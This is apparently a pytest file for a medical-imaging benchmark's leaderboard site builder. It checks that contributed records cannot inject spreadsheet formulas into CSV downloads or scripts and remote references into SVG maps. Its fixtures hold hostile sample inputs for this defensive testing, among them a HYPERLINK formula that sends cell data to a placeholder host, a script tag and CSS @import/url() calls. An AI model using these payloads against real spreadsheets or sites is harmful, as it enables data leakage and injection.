"""Tests of what the site must never publish from a stranger's record: spreadsheet formulas in
its CSV downloads, and anything `verify` would refuse."""

from __future__ import annotations

import csv
import json
import re
import shutil
import threading
from pathlib import Path

import pytest

from medbench.atomic import folder_lock
from medbench.errors import RecordError
from medbench.publish.site import build_site
from medbench.publish.site.context import FORMULA_STARTS
from medbench.publish.svgsafe import clean_svg
from medbench.publish.verify import verify_records
from tests.leaderboard_data import model_spec, publish_synthetic

TASKS = ["brain_tumor_mri", "pneumonia_cxr"]
FORMULA = '=HYPERLINK("https://example.org/?leak="&A1)'


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("board") / "leaderboard"
    specs = [model_spec("gen", title=FORMULA), model_spec("med", title="@SUM(1+1)")]
    publish_synthetic(folder, specs, TASKS, n_images=12, n_boot=20)
    return folder


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_build_site_csv_downloads_never_start_a_text_cell_with_a_formula(
    board: Path, tmp_path: Path
) -> None:
    out = tmp_path / "_site"
    build_site(board, out)
    cells = [
        cell
        for path in sorted((out / "data").glob("*.csv"))
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert f"'{FORMULA}" in cells
    assert "'@SUM(1+1)" in cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)] == []


MAP = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><title>map</title>'
    b'<rect x="1" y="1"/></svg>\n'
)


@pytest.fixture
def copied(board: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the board in `leaderboard/` of the working directory, with maps for gen."""
    shutil.copytree(board, tmp_path / "leaderboard")
    monkeypatch.chdir(tmp_path)
    maps = Path("leaderboard/quickstart/gen.tsne")
    maps.mkdir()
    (maps / "pneumonia_cxr.svg").write_bytes(MAP)
    return Path("leaderboard")


def test_verify_records_refuses_the_maps_the_site_build_refuses(copied: Path) -> None:
    maps = copied / "quickstart" / "gen.tsne"
    (maps / "pneumonia_cxr.svg").write_bytes(MAP.replace(b"<title>", b"<script>1</script><title>"))
    message = (
        "leaderboard/quickstart/gen.tsne/pneumonia_cxr.svg: refusing the SVG: element 'script' "
        "is not allowed"
    )
    assert verify_records(copied) == [message]
    with pytest.raises(RecordError, match=f"^{re.escape(message)}$"):
        build_site(copied, Path("out"))


def test_read_maps_name_ending_in_a_newline_is_refused(copied: Path) -> None:
    maps = copied / "quickstart" / "gen.tsne"
    (maps / "pneumonia_cxr.svg").rename(maps / "pneumonia_cxr\n.svg")
    problem = "leaderboard/quickstart/gen.tsne/pneumonia_cxr\n.svg: a map is named by its task id"
    assert verify_records(copied) == [problem]


@pytest.mark.parametrize(
    "style",
    [
        b"<style><g/>* {fill: url(https://example.org/x)}</style>",
        b"<style>rect {fill: red}<title>t</title>@import url(//example.org/x.css);</style>",
    ],
)
def test_clean_svg_css_after_a_child_of_style_is_refused(style: bytes) -> None:
    with pytest.raises(ValueError, match=r"^a <style> element holds CSS rules only, no elements$"):
        clean_svg(MAP.replace(b"<title>", style + b"<title>"))


def test_build_site_dotted_ids_never_share_a_file(tmp_path: Path) -> None:
    board = tmp_path / "leaderboard"
    publish_synthetic(board, [model_spec("gen.m")], TASKS, suite="q", n_images=6, n_boot=10)
    publish_synthetic(board, [model_spec("m")], TASKS, suite="q.gen", n_images=6, n_boot=10)
    written = build_site(board, tmp_path / "out")
    scores = {
        path.name: {row["model"] for row in json.loads(path.read_text())}
        for path in written
        if path.name.endswith("scores.json")
    }
    assert scores == {"q~gen.m~scores.json": {"gen.m"}, "q.gen~m~scores.json": {"m"}}
    assert (
        len({p.name for p in written if p.parent.name == "charts" and "~chart~" not in p.name}) == 2
    )


def test_build_site_refuses_a_sidecar_that_is_a_link(copied: Path) -> None:
    sidecar = copied / "quickstart" / "gen.answers.csv.gz"
    sidecar.unlink()
    sidecar.symlink_to("med.answers.csv.gz")
    problem = "gen.answers.csv.gz is a link; a sidecar is a file of its own"
    assert verify_records(copied) == [f"leaderboard/quickstart/gen.json: sidecar.path: {problem}"]
    message = (
        "leaderboard/quickstart/gen.json: cannot read its sidecar "
        f"gen.answers.csv.gz: sidecar.path: {problem}"
    )
    with pytest.raises(RecordError, match=f"^{re.escape(message)}$"):
        build_site(copied, Path("out"))


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()
    }


def test_build_site_interrupted_leaves_the_old_site_whole(
    board: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "_site"
    build_site(board, out)
    before = _tree(out)
    written = []
    real = Path.write_bytes

    def crash_after_five(self: Path, data: bytes) -> int:
        if len(written) == 5:
            raise KeyboardInterrupt
        written.append(self)
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", crash_after_five)
    with pytest.raises(KeyboardInterrupt):
        build_site(board, out)
    assert _tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["._site.lock", "_site"]


def test_build_site_waits_for_a_build_in_progress(board: Path, tmp_path: Path) -> None:
    out = tmp_path / "_site"
    done = threading.Event()

    def build() -> None:
        build_site(board, out)
        done.set()

    with folder_lock(out):
        worker = threading.Thread(target=build)
        worker.start()
        assert not done.wait(3.0)
        assert not out.exists()
    worker.join(60)
    assert done.is_set()
    assert (out / "index.html").is_file()


def test_clean_svg_never_lets_a_remote_reference_out() -> None:
    with pytest.raises(
        ValueError, match=r"^a reference to another document \(url\(\) or @import\) is not allowed$"
    ):
        clean_svg(MAP.replace(b"<title>map</title>", b"<title>url(https://example.org/x)</title>"))
    assert b"url(#c0)" in clean_svg(
        MAP.replace(b'<rect x="1"', b'<rect clip-path="url(#c0)" x="1"')
    )


def test_swap_folder_failed_rename_puts_the_old_tree_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import medbench.atomic

    folder, staged = tmp_path / "_site", tmp_path / "new"
    folder.mkdir()
    (folder / "index.html").write_text("old")
    staged.mkdir()
    real = medbench.atomic.os.replace

    def fail_the_swap(source: Path, target: Path) -> None:
        if Path(source) == staged:
            raise OSError(28, "No space left on device")
        real(source, target)

    monkeypatch.setattr(medbench.atomic.os, "replace", fail_the_swap)
    with pytest.raises(OSError):
        medbench.atomic.swap_folder(staged, folder)
    assert (folder / "index.html").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["_site", "new"]


def test_build_site_marks_contributed_records_and_not_reproduced_baselines(tmp_path: Path) -> None:
    board = tmp_path / "leaderboard"
    real = model_spec("real", title="<b>Real</b> model").model_copy(
        update={"backend": "hf", "baseline": None, "repo": "org/real"}
    )
    publish_synthetic(board, [real, model_spec("chance")], TASKS, n_images=6, n_boot=10)
    build_site(board, tmp_path / "out")
    index = (tmp_path / "out" / "index.html").read_text()
    table = index[index.index('id="quickstart~ranking"') :].split("</table>")[0]
    rows = re.findall(
        r'href="models/([^"]+)\.html"[^>]*>[^<]*</a>((?: <strong class="badge">[^<]+</strong>)*)',
        table,
    )
    assert dict(rows) == {
        "real": ' <strong class="badge">contributed</strong>',
        "chance": "",
    }
    assert "&lt;b&gt;Real&lt;/b&gt; model" in index and "<b>Real</b>" not in index
    assert 'Rows marked <strong class="badge">contributed</strong> hold answers' in index
    assert '<a href="methods.html#trust">how records are checked</a>' in index
    page = (tmp_path / "out" / "models" / "real.html").read_text()
    assert '<strong class="badge">contributed</strong> Its answers are published' in page
    assert "cannot prove the model gave them" in page
    assert 'badge">contributed' not in (tmp_path / "out" / "models" / "chance.html").read_text()
    methods = (tmp_path / "out" / "methods.html").read_text()
    assert 'id="trust"' in methods and "a record cannot prove that its answers came" in methods
    assert not re.search(r"(?:src|href)=\"(?:https?:)?//", index + page)


def test_build_site_refuses_a_probe_that_verify_refuses(copied: Path) -> None:
    path = copied / "quickstart" / "gen.json"
    data = json.loads(path.read_text())
    data["ladder"] = [{"task": "pneumonia_cxr", "probe_vision_f1": 0.99}]
    path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")
    problem = (
        "leaderboard/quickstart/gen.json: ladder[0].probe_vision_f1: recorded 0.99, but medbench "
        "extracts no image embeddings from a baseline model: no such probe exists. Publish the "
        "ladder as `medbench run` wrote it"
    )
    assert verify_records(copied) == [problem]
    with pytest.raises(RecordError, match=f"^{re.escape(problem)}$"):
        build_site(copied, Path("out"))
